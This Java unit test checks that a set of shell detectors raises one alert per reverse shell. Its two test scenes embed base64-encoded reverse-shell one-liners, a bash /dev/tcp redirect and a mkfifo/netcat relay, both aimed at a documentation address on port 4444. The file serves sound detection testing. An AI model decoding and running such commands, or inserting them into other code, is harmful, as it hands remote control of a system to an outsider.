package io.hivesec.detectors.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.testkit.Scene;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What command lines say and what events show of one shell is one alert. */
final class OneAlertAShellTest {
    private static final String OUTSIDE = "198.51.100.7";

    private static String decoded(String base64) {
        return new String(Base64.getDecoder().decode(base64), StandardCharsets.UTF_8);
    }

    private static List<Alert> alerts(Scene scene) {
        try (Hive hive = Hive.builder()
                .detector(new CommandLineShellDetector())
                .detector(new DescriptorShellDetector())
                .detector(new OutboundShellDetector())
                .detector(new PipeRelayShellDetector())
                .detector(new SpawnedShellDetector())
                .build()) {
            scene.events().forEach(hive::inspect);
            return hive.alerts().list(alert -> true, 10);
        }
    }

    @Test
    void inspect_bashRedirectedToSocket_isOneAlert() {
        Scene scene = Scene.in("web");
        scene.starts("/bin/bash", "bash", "-c", decoded("YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQ0NCAwPiYx"))
                .connects(3, OUTSIDE, 4444)
                .duplicates(3, 1)
                .duplicates(1, 2)
                .duplicates(1, 0)
                .executes("/bin/bash", "bash", "-i");
        assertThat(alerts(scene)).singleElement().satisfies(alert -> {
            assertThat(alert.target().toString()).isEqualTo(OUTSIDE + ":4444");
            assertThat(alert.evidence("scope")).contains("external");
        });
    }

    @Test
    void inspect_fifo_isOneAlertThatNamesTheConnectingProcess() {
        Scene scene = Scene.in("web");
        Scene.Actor line = scene.starts(
                        "/bin/sh",
                        "sh",
                        "-c",
                        decoded(
                                "cm0gLWYgL3RtcC9mOyBta2ZpZm8gL3RtcC9mOyBjYXQgL3RtcC9mIHwgc2ggLWkgMj4mMSB8IG5jIDE5OC41MS4xMDAuNyA0NDQ0ID4gL3RtcC9m"))
                .pipes(3, 4);
        line.forks().duplicates(4, 1).executes("/bin/cat", "cat", "/tmp/f").opens("/tmp/f");
        line.pipes(5, 6);
        line.forks().duplicates(3, 0).duplicates(6, 1).executes("/bin/sh", "sh", "-i");
        line.forks()
                .duplicates(5, 0)
                .writes("/tmp/f")
                .executes("/bin/nc", "nc", OUTSIDE, "4444")
                .connects(3, OUTSIDE, 4444);
        assertThat(alerts(scene))
                .singleElement()
                .satisfies(alert -> assertThat(alert.evidence("connecting"))
                        .hasValueSatisfying(process -> assertThat(process).endsWith("nc " + OUTSIDE + " 4444")));
    }
}
